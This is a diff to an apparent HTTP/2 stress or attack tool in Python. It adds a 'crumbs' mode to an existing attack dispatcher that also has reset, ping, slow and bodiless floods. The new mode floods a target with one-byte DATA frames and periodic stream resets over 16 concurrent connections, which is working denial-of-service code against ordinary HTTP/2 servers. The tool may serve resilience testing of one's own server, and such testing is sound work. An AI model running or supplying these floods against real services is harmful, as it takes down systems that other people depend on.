@@ -87,6 +87,17 @@ async def gibibytes(writer: asyncio.StreamWriter) -> None:
         await asyncio.sleep(0.02)
 
 
+async def crumbs(writer: asyncio.StreamWriter) -> None:
+    """Messages that come an octet a frame, as fast as they can."""
+    writer.write(HELLO)
+    for number in itertools.count(1, 2):
+        message = DataFrame(number, struct.pack(">BI", 0, 8000)).serialize()
+        writer.write(opening(number) + message + DataFrame(number, b"\0").serialize() * 7999)
+        writer.write(RstStreamFrame(number, 8).serialize() if number % 16 == 1 else b"")
+        await writer.drain()
+        await asyncio.sleep(0)
+
+
 async def silence(writer: asyncio.StreamWriter) -> None:
     await asyncio.Event().wait()
 
@@ -151,7 +162,7 @@ async def attack(kind: str, target: tuple[str, int], seconds: float) -> None:
     else:
         talks: dict[str, tuple[Talk, int]] = {
             "resets": (resets, RESETTERS), "pings": (pings, 10), "gibibytes": (gibibytes, 10),
-            "slow": (dribble, 60), "bodiless": (no_bodies, 5),
+            "slow": (dribble, 60), "bodiless": (no_bodies, 5), "crumbs": (crumbs, 16),
         }  # fmt: skip
         talk, count = talks[kind]
         tasks = [asyncio.create_task(again_and_again(target, talk)) for _ in range(count)]
